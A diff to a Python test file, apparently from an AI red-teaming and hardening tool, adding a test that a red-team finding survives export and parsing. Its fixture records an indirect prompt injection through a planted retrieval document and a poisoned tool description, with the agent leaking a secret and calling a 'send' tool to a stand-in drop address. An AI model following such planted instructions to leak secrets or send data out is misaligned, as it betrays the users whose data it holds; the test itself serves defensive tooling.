@@ -5,12 +5,16 @@ from __future__ import annotations
 import json
 from typing import Any
 
+import msgspec
 import pytest
 
 from bartizan.core.errors import ConfigurationError
 from bartizan.core.passage import Surface
+from bartizan.core.threat import Severity, Threat
 from bartizan.hardening.exchange import Call
 from bartizan.hardening.findings import MAX_FINDINGS, MAX_TEXT, SCHEMA, parse_findings
+from bartizan.redteam import findings as campaign
+from bartizan.redteam.taxonomy import EntryPoint, Objective
 
 
 def export(*findings: dict[str, Any]) -> bytes:
@@ -85,3 +89,46 @@ def test_broken_exports_are_refused_in_words(content: bytes) -> None:
         parse_findings(content, "x.json")
     assert "x.json" in raised.value.cause
     assert len(raised.value.cause) < 400
+
+
+def test_what_a_campaign_exports_is_what_is_read() -> None:
+    theirs = campaign.RedTeamFinding(
+        id="rt-0123456789abcdef",
+        case="rag-link",
+        title="A link",
+        entry_point=EntryPoint.RAG_DOCUMENT,
+        objective=Objective.UNAUTHORISED_ACTION,
+        technique="indirect_injection",
+        converters=("base64",),
+        strategy="single",
+        threat=Threat.AGENT_RISK,
+        severity=Severity.HIGH,
+        references=("OWASP-LLM-2026:LLM01",),
+        target={"id": "t", "kind": "callable", "url": "", "model": ""},
+        attempt="a",
+        request=(
+            campaign.Message(role="rag_document", text="planted", title="Page", form="page"),
+            campaign.Message(role="user", text="asked"),
+        ),
+        response="the secret: HERON",
+        calls=({"name": "send", "arguments": '{"to": "x@drop.example"}'},),
+        tools=({"name": "lookup", "description": "poisoned"},),
+        evidence=campaign.Evidence(oracle="secret", reason="the secret", piece="HERON"),
+        hits=1,
+        trials=2,
+        interval=(0.1, 0.9),
+        reproduction="bartizan redteam replay x",
+        variants=(),
+    )
+    (ours,) = parse_findings(msgspec.json.encode({"schema": SCHEMA, "findings": [theirs], "campaign": "c"}), "x")
+    assert (ours.id, ours.objective, ours.severity, ours.threat) == (
+        theirs.id,
+        "unauthorised_action",
+        Severity.HIGH,
+        Threat.AGENT_RISK,
+    )
+    exchange = ours.exchange
+    assert [piece.surface for piece in exchange.pieces] == [Surface.CONTENT, Surface.USER]
+    assert exchange.harm == ("HERON",)
+    assert exchange.calls == (Call("send", {"to": "x@drop.example"}),)
+    assert {tool.name for tool in exchange.tools} == {"lookup", "send"}
